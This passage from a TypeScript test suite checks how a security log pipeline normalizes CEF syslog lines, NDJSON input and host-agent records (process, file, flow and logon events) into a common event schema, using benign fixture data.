      String.raw`CEF:0|Acme\|Corp|Fire\\wall|1.0|100|Port \| scan|7|msg=a\=b c\\d e\|f src=10.0.0.1 request=http://x.example/?q\=1 cs1Label=Rule cs1=allow rdp empty= dpt=3389`,
    );
    expect(cef).toMatchObject({
      deviceVendor: "Acme|Corp",
      deviceProduct: "Fire\\wall",
      name: "Port | scan",
      severity: "7",
      extension: {
        msg: "a=b c\\d e|f",
        src: "10.0.0.1",
        request: "http://x.example/?q=1",
        cs1: "allow rdp",
        empty: "",
        dpt: "3389",
      },
    });
    expect(parseCefExtension("a=1  b=two words c=\\n")).toEqual({ a: "1", b: "two words", c: "\n" });
  });

  it("maps severity, time sources and the object form", () => {
    const base =
      "CEF:0|V|P|1|sig|Name|SEV|rt=1795164900000 src=[2001:db8::5] dst=198.51.100.14 spt=70000 dpt=22 act=drop";
    const sev = (s: string) => ok(normalize("SYSLOG_CEF", base.replace("SEV", s))).severity_id;
    expect([
      sev("0"),
      sev("3"),
      sev("4"),
      sev("6"),
      sev("7"),
      sev("8"),
      sev("9"),
      sev("10"),
      sev("Very-High"),
      sev("x"),
    ]).toEqual([2, 2, 3, 3, 4, 4, 5, 5, 5, 0]);
    const event = ok(
      normalize("SYSLOG_CEF", {
        message: `<134>1 2026-11-20T08:00:00Z host app - - - ${base.replace("SEV", "5")}`,
      }),
    );
    expect(event).toMatchObject({
      time: "2026-11-20T08:55:00.000Z",
      src_ip: "2001:db8::5",
      src_port: null,
      dst_port: 22,
      activity_id: 5,
      status: "Failure",
      device: "host",
      attributes: {
        action: "Denied",
        reporter: { hostname: "host", syslog_app: "app", syslog_format: "rfc5424" },
      },
    });
    const noRt = ok(
      normalize("SYSLOG_CEF", "<134>1 2026-11-20T08:00:00.5+02:00 h a - - - CEF:0|V|P|1|s|N|1|src=192.0.2.1"),
    );
    expect(noRt.time).toBe("2026-11-20T06:00:00.500Z");
    const year = ok(normalize("SYSLOG_CEF", "<14>Nov 20 2026 08:00:00 fw CEF:0|V|P|1|s|N|1|src=192.0.2.1"));
    expect(year.time).toBe("2026-11-20T08:00:00.000Z");
    const line = "<14>Nov 20 08:00:00 fw CEF:0|V|P|1|s|N|1|rt=Nov 20 2026 08:00:01 src=192.0.2.1";
    const a = ok(normalize("SYSLOG_CEF", line));
    const b = ok(normalize("SYSLOG_CEF", { message: line }));
    expect(a.source_event_id).toMatch(/^[0-9a-f]{64}$/);
    expect(b.source_event_id).toBe(a.source_event_id);
    expect(b.raw).toEqual({ message: line });
  });
});

describe("CEF times without a year", () => {
  it("take the year that puts them next to the syslog timestamp, across New Year too", () => {
    const line = (header: string, rt: string) =>
      `<134>1 ${header} fw-edge-01 edgewall - - - CEF:0|Contoso|EdgeWall|9.1|traffic|Traffic|3|rt=${rt} act=allow src=192.0.2.10 dst=10.1.3.4 dpt=443`;
    // Logged on the last second of 2026, sent (header) two seconds into 2027.
    expect(ok(normalize("SYSLOG_CEF", line("2027-01-01T00:00:01Z", "Dec 31 23:59:59"))).time).toBe(
      "2026-12-31T23:59:59.000Z",
    );
    // A header a little behind the device's clock, the other way round.
    expect(ok(normalize("SYSLOG_CEF", line("2026-12-31T23:59:58Z", "Jan 1 00:00:03"))).time).toBe(
      "2027-01-01T00:00:03.000Z",
    );
    expect(ok(normalize("SYSLOG_CEF", line("2026-11-20T09:14:03Z", "Nov 20 09:14:02"))).time).toBe(
      "2026-11-20T09:14:02.000Z",
    );
  });
});

describe("CEF record ids", () => {
  it("never takes a rule id in cn1 for the record's id", () => {
    // Two connections a second apart on the same rule: different events.
    const line = (src: string) =>
      `<134>Nov 20 09:14:02 fw-edge-01 CEF:0|Contoso|EdgeWall|9.1|traffic|Traffic|3|rt=1795166042000 act=deny src=${src} spt=50122 dst=10.1.3.4 dpt=3389 proto=TCP cn1Label=Rule ID cn1=42`;
    const a = ok(normalize("SYSLOG_CEF", line("192.0.2.10")));
    const b = ok(normalize("SYSLOG_CEF", line("192.0.2.11")));
    expect(a.source_event_id).not.toBe(b.source_event_id);
    expect(ok(normalize("SYSLOG_CEF", line("192.0.2.10"))).source_event_id).toBe(a.source_event_id);
  });
});

describe("parseNdjson", () => {
  it("reports malformed lines by number, skips blanks, strips CR and BOM", () => {
    const text = '\uFEFF{"a":1}\r\n\n  \n{"b":\n[1,2]\n"str"\nnot json\n';
    const out = parseNdjson(text);
    expect(out[0]).toEqual({ line: 1, value: { a: 1 }, text: '{"a":1}' });
    expect(out[1]).toMatchObject({ line: 4, error: expect.stringMatching(/malformed JSON/) });
    expect(out[2]).toEqual({ line: 5, value: [1, 2], text: "[1,2]" });
    expect(out[3]).toEqual({ line: 6, value: "str", text: '"str"' });
    expect(out[4]).toMatchObject({ line: 7, error: expect.stringMatching(/malformed JSON/) });
    expect(out).toHaveLength(5);
    expect(parseNdjson("")).toEqual([]);
  });

  it("gives malformed lines reasons that can be stored, whatever the line quoted in them held", () => {
    // Found by normalizers.fuzz.test.ts: JSON.parse quotes the line in its message, NUL and all, and cuts the
    // quote inside a surrogate pair; a queued body's receipt keeps the reasons as jsonb, which refuses both.
    const out = parseNdjson(`{"a":\u0000}\n\u0000\u0000\n${"😀".repeat(8)}\n`);
    expect(out.map((entry) => "error" in entry && textProblem(entry.error))).toEqual([null, null, null]);
    expect(out[0]).toMatchObject({ line: 1, error: expect.stringMatching(/^malformed JSON: .*\uFFFD/) });
  });

  it("normalizeNdjson keeps the good records and reports the bad ones", () => {
    const good = readFileSync(join(FIXTURES, "AWS_CLOUDTRAIL.ndjson"), "utf8").split("\n")[0];
    const result = normalizeNdjson("AWS_CLOUDTRAIL", `${good}\n{"eventID":"x"}\n{oops\n`);
    expect(result.events).toHaveLength(1);
    expect(result.rejected).toEqual([
      { line: 2, reason: "missing eventTime" },
      { line: 3, reason: expect.stringMatching(/malformed JSON/) },
    ]);
  });
});

describe("RAMPART_AGENT", () => {
  const list = events.RAMPART_AGENT;
  const nginx = "76f1baaae2b80faf6d363fc1c335ea3bde16c24f3997d307533e8b639973d34a";

  it("maps a process execution to Process Activity with image, command line, hash, parent and user", () => {
    const e = list.find((x) => x.source_event_id.endsWith(":auditd-vm-web-prod-01-41027"))!;
    expect(e).toMatchObject({
      source_event_id:
        "3dafd86a-82f7-47d7-8018-63f28fe05d5d:process:2026-11-20T06:00:02.000Z:auditd-vm-web-prod-01-41027",
      class_uid: 1007,
      activity_id: 1,
      device: "vm-web-prod-01",
      resource_id: "3dafd86a-82f7-47d7-8018-63f28fe05d5d",
      actor_user: "root",
      operation: "process",
      attributes: {
        process: {
          name: "nginx",
          path: "/usr/sbin/nginx",
          pid: 912,
          cmd_line: "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;",
          user: { name: "root" },
          file: { path: "/usr/sbin/nginx", hashes: { sha256: nginx } },
          parent_process: { path: "/usr/lib/systemd/systemd", pid: 1, name: "systemd" },
        },
      },
    });
    // Threat intelligence reads the process's hash.
    expect(observablesOf(e).hashes).toContain(nginx);
  });

  it("maps file changes, flows and logons", () => {
    expect(list.find((x) => x.source_event_id.endsWith(":fim-ci-runner-02-7707"))).toMatchObject({
      class_uid: 1001,
      activity_id: 1,
      device: "ci-runner-02",
      actor_user: "runner",
      attributes: { file: { path: "/home/runner/_work/devtools-api/devtools-api/bin/api", size: 23118002 } },
    });
    expect(list.find((x) => x.source_event_id.endsWith(":flow-ci-runner-02-5000165"))).toMatchObject({
      class_uid: 4001,
      status: "Success",
      src_ip: "192.0.2.45",
      src_port: 40000,
      dst_ip: "10.21.0.129",
      dst_port: 22,
      attributes: {
        action: "Allowed",
        connection_info: { direction: "Inbound", direction_id: 1, protocol_name: "tcp" },
        traffic: { bytes: 3100, packets: 22 },
      },
    });
    expect(list.find((x) => x.source_event_id.endsWith(":logon-ci-runner-02-120400"))).toMatchObject({
      class_uid: 3002,
      status: "Failure",
      actor_user: "root",
      src_ip: "192.0.2.45",
      attributes: { logon_type: "ssh", status_detail: "wrong password" },
    });
  });

  it("keys a record by machine, kind, time and id, whatever the time's notation", () => {
    const [first] = records.RAMPART_AGENT as Array<Record<string, unknown>>;
    const again = ok(NORMALIZERS.RAMPART_AGENT({ ...first, time: "2026-11-20T07:58:12+02:00" }));
    expect(again.source_event_id).toBe(list[0].source_event_id);
    const other = ok(
      NORMALIZERS.RAMPART_AGENT({ ...first, kind: "process", id: "auditd-ci-runner-02-41039" }),
    );
    expect(other.source_event_id).not.toBe(list[0].source_event_id);
  });

  it("rejects package snapshots and records without their machine", () => {
    const [first] = records.RAMPART_AGENT as Array<Record<string, unknown>>;
    expect(rejected(NORMALIZERS.RAMPART_AGENT({ ...first, kind: "packages", packages: [] }))).toMatch(
      /^packages snapshots are not events/,
    );
    expect(rejected(NORMALIZERS.RAMPART_AGENT({ ...first, resourceId: "vm-1" }))).toBe(
      "resourceId must be a UUID",
    );
    expect(rejected(NORMALIZERS.RAMPART_AGENT({ ...first, host: "" }))).toBe("host is missing");
  });
});
